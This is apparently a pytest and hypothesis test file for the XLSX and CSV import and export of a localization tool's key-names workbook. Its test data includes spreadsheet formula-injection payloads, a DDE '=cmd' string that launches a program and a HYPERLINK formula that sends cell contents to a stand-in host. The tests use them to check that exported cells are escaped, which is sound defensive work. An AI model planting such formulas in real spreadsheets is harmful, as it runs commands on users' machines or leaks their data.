"""The key-names workbook: round trips, and files as people's Excel makes them."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import date

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from localize.memory.exchange.csv_sheet import SEPARATORS, made_safe, read_csv, restored, write_csv
from localize.memory.exchange.key_names import key_names_of, sheets_of
from localize.memory.exchange.sheets import Sheet
from localize.memory.exchange.values import (
    AddressEntry,
    CharacterEntry,
    KeyNames,
    Rendering,
    TermEntry,
)
from localize.memory.exchange.xlsx_book import read_xlsx, write_xlsx
from localize.store.kinds import AddressForm, Gender

LOCALES = ("fr-FR", "es-419", "zh-Hant")
FORMULA = '=HYPERLINK("http://x"&A1,"Deep")'


def bare(names):
    """The same without places."""
    return (
        [
            (
                t.source,
                t.kind,
                t.note,
                t.frequency,
                {(r.locale, r.text, r.note) for r in t.renderings},
            )
            for t in names.terms
        ],
        [(c.name, c.gender, c.note) for c in names.characters],
        {(a.locale, a.speaker, a.addressee, a.form, a.guessed, a.note) for a in names.addresses},
    )


def csv_of(sheets, separator=","):
    return [read_csv(write_csv(one, separator), one.name, f"{one.name}.csv") for one in sheets]


# --- Round trips ----------------------------------------------------------------------------------

# Every character but those that no XML carries; lines are one line, as they are kept.
CHARS = st.characters(
    exclude_categories=("Cs", "Cc", "Zs", "Zl", "Zp"), exclude_characters="\ufffe\uffff"
)
WORDS = st.text(CHARS, min_size=1, max_size=12) | st.sampled_from(
    [
        "=1+1",
        "'=x",
        "+",
        "-5",
        "@cmd",
        FORMULA,
        '"',
        "a;b,c\td",
        "''-",
        "_x0041_",
        "true",
        "007",
        "1e5",
    ]
)


def nfc(text):
    return unicodedata.normalize("NFC", " ".join(text.split()))


LINES = (
    st.lists(WORDS, min_size=1, max_size=3)
    .map(" ".join)
    .map(nfc)
    .filter(lambda text: bool(text) and "x005F_" not in text)
)
NOTES = st.just("") | st.lists(LINES, min_size=1, max_size=3).map("\n".join)
NAMES = LINES.filter(
    lambda name: not name.casefold().strip("()").startswith(("every", "any", "all", "*"))
)


@st.composite
def key_names(draw):
    sources = draw(st.lists(LINES, max_size=5, unique_by=str.casefold))
    terms = []
    for source in sources:
        renderings = [
            Rendering(locale, text, note)
            for locale in draw(st.lists(st.sampled_from(LOCALES), unique=True))
            for text, note in [draw(st.tuples(st.just("") | LINES, NOTES))]
            if text or note
        ]
        terms.append(
            TermEntry(
                source,
                draw(st.just("") | LINES.map(lambda one: one[:60].strip())),
                draw(NOTES),
                tuple(renderings),
                draw(st.integers(0, 999)),
            )
        )
    people = draw(st.lists(NAMES, max_size=4, unique_by=str.casefold))
    characters = [
        CharacterEntry(name, draw(st.sampled_from(Gender)), draw(NOTES)) for name in people
    ]
    pairs = draw(
        st.lists(
            st.tuples(
                st.sampled_from(LOCALES),
                st.sampled_from(["", *people]),
                st.sampled_from(["", *people]),
            ),
            unique=True, max_size=6,
        )
    )  # fmt: skip
    addresses = [
        AddressEntry(*pair, draw(st.sampled_from(AddressForm)), draw(st.booleans()), draw(NOTES))
        for pair in pairs
    ]
    return KeyNames("en", tuple(terms), tuple(characters), tuple(addresses))


@given(key_names())
@settings(max_examples=60)
def test_a_workbook_comes_back_as_it_was(names):
    sheets = read_xlsx(write_xlsx(sheets_of(names, LOCALES)), "x.xlsx")
    back = key_names_of(sheets)
    assert back.refusals == ()
    assert back.notes == ()
    assert bare(back) == bare(names)
    assert back.source_locale == "en"


@given(key_names(), st.sampled_from(SEPARATORS))
@settings(max_examples=100)
def test_tables_come_back_from_csv_as_they_were(names, separator):
    back = key_names_of(csv_of(sheets_of(names, LOCALES), separator))
    assert back.refusals == ()
    assert bare(back) == bare(names)


@given(st.text())
def test_a_cell_made_safe_is_no_formula_and_comes_back(text):
    safe = made_safe(text)
    assert safe[:1] not in tuple("=+-@\t\r\n")
    assert restored(safe) == text


def test_a_workbook_opens_elsewhere_as_text_whatever_its_cells_begin_with():
    names = KeyNames(
        terms=(
            TermEntry("=cmd|' /C calc'!A1", "name", "@x", (Rendering("fr-FR", "+33", "-1"),), 12),
        )
    )
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(sheets_of(names, ("fr-FR",)))))
    (made,) = book.worksheets
    assert [cell.value for cell in made[1]] == [
        "Type", "Source term", "Notes", "Frequency", "fr-FR", "fr-FR notes",
    ]  # fmt: skip
    assert [cell.value for cell in made[2]] == [
        "name",
        "=cmd|' /C calc'!A1",
        "@x",
        "12",
        "+33",
        "-1",
    ]
    assert {cell.data_type for cell in made[2]} == {"s"}
    assert made["B2"].quotePrefix
    text = write_csv(sheets_of(names, ("fr-FR",))[0]).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row == ["name", "'=cmd|' /C calc'!A1", "'@x", "12", "'+33", "'-1"]


# --- As people's Excel makes them -----------------------------------------------------------------

TABLE = (
    "Type;Source term;Notes;fr-FR;Notes\r\n"
    "name;Deep Six;the ship;Le Fond;“sic”\r\n"
    "place;Zürich;;Zurich;\r\n"
)


@pytest.mark.parametrize(
    "data",
    [
        TABLE.encode("utf-8-sig"),
        TABLE.encode(),
        TABLE.encode("cp1252"),
        ("sep=;\r\n" + TABLE).encode("utf-8-sig"),
        TABLE.replace(";", "\t").encode("utf-16"),
        TABLE.replace(";", ",").replace("\r\n", "\n").encode(),
        TABLE.replace("\r\n", "\r").encode(),
        ("Season 2 key names;;;;\r\n;;;;\r\n" + TABLE).encode("utf-8-sig"),
    ],
    ids=["bom", "utf8", "cp1252", "sep", "utf16-tabs", "commas", "mac", "title"],
)
def test_a_csv_of_any_country_is_read(data):
    found = key_names_of([read_csv(data, "names", "names.csv")])
    assert found.refusals == ()
    first, second = found.terms
    assert (first.source, first.kind, first.note) == ("Deep Six", "name", "the ship")
    assert [(one.locale, one.text, one.note) for one in first.renderings] == [
        ("fr-FR", "Le Fond", "“sic”")
    ]
    assert second.source == "Zürich"


def test_numbers_are_text_and_what_excel_made_of_text_is_refused_by_its_cell(tmp_path):
    book = openpyxl.Workbook()
    made = book.active
    made.title = "Names"
    for row in [
        ("Type", "Source term", "fr-FR"),
        ("number", 24, "24 heures"),
        ("name", date(2031, 5, 6), "Six mai"),
        ("name", "Sum", "=1+1"),
        ("name", "Good", "Bon"),
        ("name", "", "Rien"),
        ("name", "x" * 201, "Long"),
        ("name", "good", "Autre"),
    ]:
        made.append(row)
    made["C9"] = "#N/A"
    made["C9"].data_type = "e"
    made["B9"] = "Wrong"
    book.create_sheet("Scratch")["A1"] = "nothing known"
    path = tmp_path / "k.xlsx"
    book.save(path)
    found = key_names_of(read_xlsx(path.read_bytes(), "k.xlsx"))
    assert [one.source for one in found.terms] == ["24", "Good"]
    told = {str(one.place): one.message for one in found.refusals}
    assert told.keys() == {
        "Names, row 3, column B", "Names, row 4, column C", "Names, row 6, column B",
        "Names, row 7, column B", "Names, row 8, column C", "Names, row 9, column C",
    }  # fmt: skip
    assert "date" in told["Names, row 3, column B"]
    assert "formula" in told["Names, row 4, column C"]
    assert "201 characters is too long" in told["Names, row 7, column B"]
    assert "row 5 already, as “Bon” in fr-FR" in told["Names, row 8, column C"]
    assert found.notes == ("Scratch: no header is known in it, so it was passed over.",)


def test_a_formality_sheet_as_people_fill_it_in():
    sheet = Sheet(
        "Formality de-DE",
        (
            ("", "Anna", "Ben", "everybody"),
            ("Anna", "", "du", "Sie?"),
            ("Ben", "formal: he is her pupil", "", "maybe"),
            ("", "Sie", "", ""),
        ),
    )
    found = key_names_of([sheet])
    assert bare(found)[2] == {
        ("de-DE", "Anna", "Ben", AddressForm.FAMILIAR, False, ""),
        ("de-DE", "Anna", "", AddressForm.FORMAL, True, ""),
        ("de-DE", "Ben", "Anna", AddressForm.FORMAL, False, "he is her pupil"),
    }
    assert {str(one.place) for one in found.refusals} == {
        "Formality de-DE, row 3, column D", "Formality de-DE, row 4, column A",
    }  # fmt: skip


def test_characters_and_what_contradicts_itself():
    rows = (
        ("Name", "Gender", "Notes"), ("Anna", "F", "a doctor"), ("Ben", "Male", ""), ("Cy", "", ""),
        ("Dee", "alien", ""), ("anna", "male", ""), ("", "male", ""),
    )  # fmt: skip
    found = key_names_of([Sheet("Characters", rows)])
    assert bare(found)[1] == [
        ("Anna", Gender.FEMALE, "a doctor"), ("Ben", Gender.MALE, ""), ("Cy", Gender.UNKNOWN, ""),
    ]  # fmt: skip
    assert [str(one.place) for one in found.refusals] == [
        "Characters, row 5, column B", "Characters, row 6, column B", "Characters, row 7, column A",
    ]  # fmt: skip
